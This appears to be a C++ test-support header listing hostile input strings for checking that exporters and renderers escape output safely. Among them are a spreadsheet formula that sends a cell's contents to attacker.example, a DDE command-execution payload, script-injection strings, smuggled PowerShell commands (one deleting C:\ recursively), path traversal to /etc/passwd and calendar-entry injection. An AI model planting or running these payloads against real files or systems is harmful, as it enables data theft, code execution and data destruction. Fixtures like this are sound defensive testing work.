#pragma once
// Texts that have broken outputs of other programs: formulas, quotes of every kind, markup, control and bidirectional characters.

#include <string>
#include <vector>

namespace support {

inline const std::vector<std::string>& hostile_texts() {
  using namespace std::string_literals;
  static const std::vector<std::string> texts = {
      "=HYPERLINK(\"https://attacker.example?\"&A1,\"open\")"s,
      "+1+cmd|' /C calc'!A0"s,
      "-2+3"s,
      "@SUM(1)"s,
      "\t=1+1"s,
      "\r=1+1"s,
      "\xEF\xBC\x9D"
      "1+1"s,  // full-width equals sign
      "  =1+1"s,
      "<script>alert(1)</script>"s,
      "\"><img src=x onerror=alert(1)>"s,
      "' onmouseover='alert(1)"s,
      "</title></style></desc></svg><script>alert(1)</script>"s,
      "javascript:alert(1)"s,
      "]]><!--"s,
      "{customer} {0} %s %n ${x} $(calc) `calc` #{x}"s,
      "O'Brien \xE2\x80\x98; Remove-Item C:\\ -Recurse; \xE2\x80\x99 \xE2\x80\x9A \xE2\x80\x9B \xE2\x80\x9C \xE2\x80\x9D"s,
      "'; Invoke-Expression 'calc'; #"s,
      "a,b;c:d\\n\\,e"s,
      "line one\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nline two"s,
      "first\nsecond\n\n# heading\n- [x](https://attacker.example)"s,
      "nul\0inside"s,
      "bell\x07 escape\x1b[31m delete\x7f"s,
      "\xE2\x80\xAE"
      "txt.exe\xE2\x81\xA6 isolate"s,  // right-to-left override, left-to-right isolate
      "\xEF\xBB\xBF zero\xE2\x80\x8Bwidth"s,
      "bad \xff\xfe utf-8 \xC3"s,
      "| a | b |\n|---|---|\n**bold** _it_ ![x](y)"s,
      "../../etc/passwd"s,
      "CON.txt/NUL"s,
      std::string(5000, 'x'),
      "\xF0\x9F\x98\x80\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E \xC4\xB0\xC4\xB1\xC5\x9F\xC4\x9F"s + std::string(300, 'w'),
  };
  return texts;
}

}  // namespace support
